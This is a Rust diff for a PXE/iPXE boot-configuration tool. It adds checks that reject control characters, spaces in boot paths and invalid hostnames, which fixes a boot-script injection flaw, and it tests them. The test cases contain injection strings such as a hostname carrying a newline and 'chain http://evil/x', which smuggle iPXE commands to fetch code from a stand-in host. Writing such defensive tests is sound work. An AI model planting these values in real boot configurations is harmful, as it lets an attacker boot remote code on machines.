@@ -189,11 +189,11 @@ impl Inventory {
 struct MachineFile {
     mac: Mac,
     ip: Option<Ipv4Addr>,
-    hostname: Option<String>,
-    profile: Option<String>,
-    args: Option<String>,
+    hostname: Option<HostName>,
+    profile: Option<Text>,
+    args: Option<Text>,
     #[serde(default)]
-    params: BTreeMap<String, String>,
+    params: BTreeMap<String, Text>,
     /// Informational, written by zero-touch registration.
     #[allow(dead_code)]
     registered: Option<String>,
@@ -203,16 +203,42 @@ struct MachineFile {
 #[serde(deny_unknown_fields)]
 struct ProfileFile {
     boot: BootKind,
-    kernel: Option<String>,
-    initrd: Option<String>,
+    kernel: Option<Text>,
+    initrd: Option<Text>,
     #[serde(default)]
-    args: String,
+    args: Text,
     #[serde(default)]
     kiosk: bool,
-    squashfs: Option<String>,
+    squashfs: Option<Text>,
     /// An imported live image (`pxelator image import`): "name" for its current version or
     /// "name-vN"; supplies kernel, initrd and squashfs unless given.
+    image: Option<Text>,
+}
+
+/// A profile file's values once read (checked [`Text`] turned into plain strings).
+struct ProfileFields {
+    boot: BootKind,
+    kernel: Option<String>,
+    initrd: Option<String>,
+    args: String,
+    kiosk: bool,
+    squashfs: Option<String>,
     image: Option<String>,
+}
+
+impl From<ProfileFile> for ProfileFields {
+    fn from(f: ProfileFile) -> ProfileFields {
+        let s = |t: Option<Text>| t.map(|t| t.0);
+        ProfileFields {
+            boot: f.boot,
+            kernel: s(f.kernel),
+            initrd: s(f.initrd),
+            args: f.args.0,
+            kiosk: f.kiosk,
+            squashfs: s(f.squashfs),
+            image: s(f.image),
+        }
+    }
 }
 
 /// `groups/<name>.toml`: defaults for the machines whose param `group` is `<name>`.
@@ -220,7 +246,56 @@ struct ProfileFile {
 #[serde(deny_unknown_fields)]
 struct GroupFile {
     #[serde(default)]
-    params: BTreeMap<String, String>,
+    params: BTreeMap<String, Text>,
+}
+
+/// A value that ends up in a generated boot script or on a kernel command line: no control
+/// characters, so a newline can never start a new iPXE or pxelinux command. Checked while the
+/// TOML is read, so the problem names the file and line.
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(try_from = "String")]
+struct Text(String);
+
+impl TryFrom<String> for Text {
+    type Error = String;
+    fn try_from(s: String) -> Result<Text, String> {
+        match s.chars().find(|c| c.is_control()) {
+            Some(c) => Err(format!(
+                "{s:?} holds the control character {c:?}; values go into boot scripts and kernel command lines, so write them on one line without control characters"
+            )),
+            None => Ok(Text(s)),
+        }
+    }
+}
+
+/// A host name as RFC 1123 §2.1 allows it (checked while reading, like [`Text`]).
+#[derive(Debug, Clone, Deserialize)]
+#[serde(try_from = "String")]
+struct HostName(String);
+
+impl TryFrom<String> for HostName {
+    type Error = String;
+    fn try_from(s: String) -> Result<HostName, String> {
+        check_hostname(&s).map(|()| HostName(s))
+    }
+}
+
+/// RFC 1123 §2.1 host name: dot-separated labels of letters, digits and '-', each 1–63
+/// characters, not starting or ending with '-'; at most 253 characters in all.
+pub fn check_hostname(s: &str) -> Result<(), String> {
+    let label_ok = |l: &str| {
+        (1..=63).contains(&l.len())
+            && l.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
+            && !l.starts_with('-')
+            && !l.ends_with('-')
+    };
+    if !s.is_empty() && s.len() <= 253 && s.split('.').all(label_ok) {
+        Ok(())
+    } else {
+        Err(format!(
+            "hostname {s:?} is not a valid host name (RFC 1123): use letters, digits and '-' (not first or last), labels of at most 63 separated by '.'"
+        ))
+    }
 }
 
 /// The conf-repo directories the inventory is read from: what the daemon snapshots from the
@@ -263,7 +338,8 @@ pub fn load_named(
             .unwrap_or_default()
             .to_owned();
         match read_toml::<ProfileFile>(&path) {
-            Ok(mut f) => {
+            Ok(f) => {
+                let mut f = ProfileFields::from(f);
                 if let Some(img) = &f.image {
                     let (base, _) = crate::image::split_version(img);
                     if !crate::image::valid_name(base) {
@@ -308,7 +384,7 @@ pub fn load_named(
                         path: path.clone(),
                         line: None,
                         message: format!(
-                            "{bad:?} must be a relative path inside the boot directory (no '..')"
+                            "{bad:?} must be a relative path inside the boot directory (no '..', spaces or control characters)"
                         ),
                     });
                     continue;
@@ -339,10 +415,10 @@ pub fn load_named(
             Ok(f) => machines.push(Machine {
                 mac: f.mac,
                 ip: f.ip,
-                hostname: f.hostname,
-                profile: f.profile,
-                args: f.args,
-                params: f.params,
+                hostname: f.hostname.map(|h| h.0),
+                profile: f.profile.map(|t| t.0),
+                args: f.args.map(|t| t.0),
+                params: f.params.into_iter().map(|(k, v)| (k, v.0)).collect(),
                 source: path,
             }),
             Err(p) => {
@@ -378,7 +454,7 @@ pub fn load_named(
             .to_owned();
         match read_toml::<GroupFile>(&path) {
             Ok(g) => {
-                groups.insert(name, g.params);
+                groups.insert(name, g.params.into_iter().map(|(k, v)| (k, v.0)).collect());
             }
             Err(p) => problems.push(p),
         }
@@ -430,6 +506,13 @@ fn read_seed_machine(dir: &Path) -> Result<Machine, Problem> {
                         message: "expected a single line".into(),
                     });
                 }
+                if let Err(message) = Text::try_from(v.to_owned()) {
+                    return Err(Problem {
+                        path: p,
+                        line: Some(1),
+                        message,
+                    });
+                }
                 Ok((!v.is_empty()).then(|| v.to_owned()))
             }
             Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(None),
@@ -451,10 +534,18 @@ fn read_seed_machine(dir: &Path) -> Result<Machine, Problem> {
         line: Some(1),
         message: e.to_string(),
     })?;
+    let hostname = one_line("hostname")?;
+    if let Some(Err(message)) = hostname.as_deref().map(check_hostname) {
+        return Err(Problem {
+            path: dir.join("hostname"),
+            line: Some(1),
+            message,
+        });
+    }
     Ok(Machine {
         mac,
         ip: Some(ip),
-        hostname: one_line("hostname")?,
+        hostname,
         profile: one_line("profile")?,
         args: one_line("args")?,
         params: BTreeMap::new(),
@@ -516,8 +607,10 @@ fn toml_files(dir: &Path, problems: &mut Vec<Problem>) -> Vec<PathBuf> {
 }
 
 /// True for a relative path with no `..`, root or prefix components.
+/// Whitespace and control characters are refused too: the path goes into a boot script line.
 pub fn safe_rel_path(p: &str) -> bool {
     !p.is_empty()
+        && !p.chars().any(|c| c.is_whitespace() || c.is_control())
         && Path::new(p).components().all(|c| {
             matches!(
                 c,
@@ -590,6 +683,114 @@ mod tests {
         let shown = problems[0].to_string();
         assert!(shown.contains("broken.toml:2:"), "{shown}");
         assert_eq!(inv.machines().len(), 1);
+    }
+
+    /// Issue 10: a hostname with a newline went into the generated iPXE script's comment
+    /// line, so the next line ran as an iPXE command. Refused at load, with path:line.
+    #[test]
+    fn injected_newlines_and_control_characters_are_refused_at_load_with_path_and_line() {
+        let cases = [
+            (
+                "machines/evil.toml",
+                "mac = \"52:54:00:00:00:09\"\nhostname = \"kiosk9\\nchain http://evil/x\"\n",
+                2,
+                "RFC 1123",
+            ),
+            (
+                "machines/evil.toml",
+                "mac = \"52:54:00:00:00:09\"\n\nargs = \"quiet\\rboot\"\n",
+                3,
+                "control character",
+            ),
+            (
+                "machines/evil.toml",
+                "mac = \"52:54:00:00:00:09\"\n[params]\nhomepage = \"x\\u0000y\"\n",
+                3,
+                "control character",
+            ),
+            (
+                "machines/evil.toml",
+                "mac = \"52:54:00:00:00:09\"\nhostname = \"-kiosk\"\n",
+                2,
+                "RFC 1123",
+            ),
+            (
+                "profiles/evil.toml",
+                "boot = \"ipxe\"\nkernel = \"vmlinuz\"\nargs = \"a\\nimgfetch http://evil/x\"\n",
+                3,
+                "control character",
+            ),
+            (
+                "groups/evil.toml",
+                "[params]\ncron = \"0 8 * * *\\tx\"\n",
+                2,
+                "control character",
+            ),
+        ];
+        for (file, text, line, why) in cases {
+            let d = base();
+            write(d.path(), file, text);
+            let (inv, problems) = load(d.path(), SERVER, None);
+            assert_eq!(problems.len(), 1, "{file}: {problems:?}");
+            let shown = problems[0].to_string();
+            assert!(shown.contains(&format!("{file}:{line}:")), "{shown}");
+            assert!(shown.contains(why), "{shown}");
+            assert!(inv.by_mac(&"52:54:00:00:00:09".parse().unwrap()).is_none());
+            assert!(inv.profile("evil").is_none());
+        }
+        // The original layout: one-line files.
+        let d = base();
+        write(
+            d.path(),
+            "conf/10.77.1.1/10.77.1.12/mac",
+            "52:54:00:00:00:02\n",
+        );
+        write(d.path(), "conf/10.77.1.1/10.77.1.12/hostname", "bad_name\n");
+        let (_, problems) = load(d.path(), SERVER, None);
+        assert!(
+            problems[0].to_string().contains("10.77.1.12/hostname:1:"),
+            "{problems:?}"
+        );
+        // A kernel path with a space would split the script's kernel line.
+        let d = base();
+        write(
+            d.path(),
+            "profiles/evil.toml",
+            "boot = \"ipxe\"\nkernel = \"vmlinuz initrd=x\"\n",
+        );
+        let (_, problems) = load(d.path(), SERVER, None);
+        assert!(
+            problems[0]
+                .to_string()
+                .contains("inside the boot directory"),
+            "{problems:?}"
+        );
+    }
+
+    #[test]
+    fn hostnames_follow_rfc_1123() {
+        for ok in [
+            "kiosk1",
+            "k",
+            "1kiosk",
+            "kiosk-1.lib.example",
+            &"a".repeat(63),
+        ] {
+            assert!(check_hostname(ok).is_ok(), "{ok}");
+        }
+        for bad in [
+            "",
+            "-k",
+            "k-",
+            "k_1",
+            "k..l",
+            "k.",
+            &"a".repeat(64),
+            "kï",
+            "k 1",
+        ] {
+            assert!(check_hostname(bad).is_err(), "{bad}");
+        }
     }
 
     #[test]
